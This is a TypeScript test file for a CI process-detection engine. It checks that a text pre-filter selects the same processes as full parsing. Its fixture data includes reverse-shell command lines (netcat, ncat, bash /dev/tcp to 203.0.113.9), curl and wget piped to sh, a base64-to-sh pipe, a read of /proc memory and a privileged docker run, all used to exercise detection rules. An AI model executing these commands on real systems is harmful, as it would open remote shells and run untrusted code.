/**
 * The rules read only the processes that may match (detections/input.ts `processesWith`, `processesNamed`,
 * `workers`): a pre-filter on the stored args text, so most processes' args are never parsed. Proven here to select
 * exactly what filtering every process's parsed view selects, on stored args that defeat a naive text search
 * (escapes, needles across two arguments, non-string elements, not JSON, no args), and the findings of
 * finalizeCase (the process model's instances, in memory) to equal the rules run over the stored table.
 */
import { afterEach, describe, expect, it } from 'vitest';
import type { Db } from '../../electron/db/open';
import { BUILTIN_RULES, runRules } from '../../electron/analysis/detections/index';
import { loadDetectionInput, needleSegment } from '../../electron/analysis/detections/input';
import { loadCaseContext } from '../../electron/analysis/case-context';
import { isRunnerWorker } from '../../electron/analysis/process-model';
import { at, meta, newCase, step, type TestCase } from './analysis-case';

let c: TestCase;
afterEach(() => c?.close());

/** exe and args TEXT exactly as stored (not built by JSON.stringify: the producer's own text). */
const STORED: [string | null, string | null][] = [
  ['/opt/runner/bin/Runner.Wor\u212Aer', null], // Kelvin sign: lower-cases to k, so a worker
  [null, '["C:\\\\runner\\\\Runner.Worker.exe","spawnclient"]'],
  ['RUNNER.WORKER.DLL', '[]'],
  ['/usr/bin/nc', '["nc","-e","/bin/sh","203.0.113.9","9001"]'], // "nc " spans two arguments
  ['/usr/bin/curl', '["\\u0063url","https://x.example/i.sh","|","sh"]'], // escaped in the text
  ['/usr/bin/wget', '["wget","-qO-","https:\\/\\/x.example\\/i.sh","|","bash"]'],
  ['/usr/bin/curl', '[ "curl" , "https://x.example/i.sh" , "|" , "sh" ]'],
  ['curl https://x.example/i.sh | sh', null], // no args: the exe is the command line
  ['curl https://x.example/i.sh | sh', 'not json'],
  ['curl https://x.example/i.sh | sh', '{"0":"x"}'],
  ['/usr/bin/x', '[1e21, 100E-2, -0, true, null, "curl", "u", "|", "sh"]'], // String(): 1e+21 1 0 true null
  ['/usr/bin/x', '[{"a":1}, ["a","b"], "docker"]'], // [object Object] a,b
  ['/usr/bin/x', '["a\\tb","curl\\nx | sh"]'],
  ['/usr/bin/sudo', '["apt-get","install","x"]'], // sudo by its exe only
  [null, '["C:\\\\Windows\\\\sudo","x"]'],
  [null, '["sudoku"]'],
  ['/usr/bin/cat', '["cat","/proc/100/mem"]'],
  ['/usr/bin/docker', '["docker","run","--privileged","alpine"]'],
  ['/usr/bin/python3', '["python3","-c","import socket,os;s=socket.socket()"]'],
  ['/usr/bin/bash', '["bash","-c","bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"]'],
  ['/usr/bin/bash', '["bash","-c","echo aGk= | base64 -d | sh"]'],
  ['/usr/bin/ncat', '["ncat","-c","sh","203.0.113.9"]'],
  ['/usr/bin/git', '["git","rev-parse","HEAD"]'],
];

function storedCase(): Db {
  c = newCase();
  const { db } = c;
  meta(db, 'run', { job: 'test' });
  step(db, { number: 1, name: 'Run build', start: at(0), end: at(1000) });
  const ins = db.prepare(`INSERT INTO process_events (ts, event, pid, ppid, exe, args, origin, raw) VALUES (?, 'exec', ?, ?, ?, ?, 'events', '{}')`);
  STORED.forEach(([exe, args], i) => ins.run(at(1 + i), 100 + i, i === 0 ? 1 : 100, exe, args));
  return db;
}

const NEEDLE_SETS: string[][] = [
  ...BUILTIN_RULES.filter((r) => r.processNeedles).map((r) => [...r.processNeedles!]),
  ['nc '], [' -e '], ['1e+21'], ['0 true null'], ['[object Object]'], ['a,b'], ['Runner.Worker'], ['\\'], ['/'], [' '], [''],
  ['a\tb'], ['curl\nx'], ['https://x.example'],
];
const NAMES = ['sudo', 'curl', 'Runner.Worker.exe', 'x', 'sudoku', '[object Object]', '1e+21', ''];

describe('process pre-filter of the rules', () => {
  it('needleSegment: the longest run without a space; none for empty or number-like text', () => {
    expect(needleSegment('nc ')).toBe('nc');
    expect(needleSegment('bash -i >&')).toBe('bash');
    expect(needleSegment(' ')).toBeNull();
    expect(needleSegment('1e+21')).toBeNull();
  });

  it('selects exactly what filtering every parsed process selects, with and without declared needles', () => {
    const db = storedCase();
    c.finalize();
    const all = loadDetectionInput(db, null).processes();
    expect(all).toHaveLength(STORED.length);
    const declared = [...new Set(NEEDLE_SETS.flat())];
    for (const decl of [[], declared, ['curl', 'sudo']]) {
      const input = loadDetectionInput(db, null, null, null, null, decl);
      for (const needles of NEEDLE_SETS) {
        const want = all.filter((p) => needles.some((x) => p.cmd.includes(x)));
        expect(input.processesWith(needles), `${JSON.stringify(needles)} declared ${decl.length}`).toEqual(want);
      }
      for (const name of NAMES) expect(input.processesNamed(name), name).toEqual(all.filter((p) => p.name === name));
      expect(input.workers()).toEqual(all.filter((p) => p.isWorker));
    }
    // the cases the naive search misses are really there (the test would not fail otherwise)
    expect(all.filter((p) => p.isWorker).map((p) => p.pid)).toEqual([100, 101, 102]);
    expect(all.filter((p) => p.cmd.includes('curl https://x.example/i.sh | sh')).length).toBe(5); // escaped, spaced JSON, 3 exe only
    expect(all.some((p) => p.cmd === '1e+21 1 0 true null curl u | sh')).toBe(true);
    expect(all.some((p) => p.cmd.startsWith('[object Object] a,b docker'))).toBe(true);
  });

  it("finalizeCase's findings (from the model in memory) equal the rules run over the stored processes", () => {
    const db = storedCase();
    c.finalize();
    const rows = db
      .prepare('SELECT rule, title, process_id, step_id, first_seen FROM findings WHERE rule IS NOT NULL ORDER BY id')
      .safeIntegers(true)
      .all() as { rule: string; title: string; process_id: bigint | null; step_id: bigint | null; first_seen: bigint | null }[];
    const fromTable = runRules(db, loadCaseContext(db, () => {}), BUILTIN_RULES).flatMap(({ rule, hits }) =>
      hits.map((h) => ({ rule: rule.id, title: h.title, process_id: h.processId ?? null, step_id: h.stepId ?? null, first_seen: h.first })),
    );
    const norm = (xs: typeof rows) => xs.map((r) => ({ ...r, process_id: r.process_id === null ? null : Number(r.process_id), step_id: r.step_id === null ? null : Number(r.step_id) }));
    expect(norm(rows)).toEqual(fromTable);
    expect(new Set(rows.map((r) => r.rule))).toEqual(new Set(['reverse-shell', 'download-and-run', 'runner-memory', 'privileged-container', 'sudo']));
  });

  it("isRunnerWorker's quick test: only the Kelvin sign lower-cases to a letter of runner.worker besides ASCII", () => {
    const letters = new Set('runer.wok');
    const others: number[] = [];
    for (let c = 128; c < 0x10000; c++) {
      const l = String.fromCharCode(c).toLowerCase();
      if ([...l].some((x) => letters.has(x))) others.push(c);
    }
    expect(others).toEqual([0x212a]);
    for (const exe of ['/opt/Runner.Wor\u212Aer', 'RUNNER.WORKER.DLL', 'C:\\a\\runner.worker.exe', '/x/Runner.Worker']) expect(isRunnerWorker(exe, null), exe).toBe(true);
    for (const exe of ['/x/Runner.Worker.sh', '/x/Runner.Workers', 'Runner.Worker/x', '/usr/bin/node']) expect(isRunnerWorker(exe, null), exe).toBe(false);
  });
});
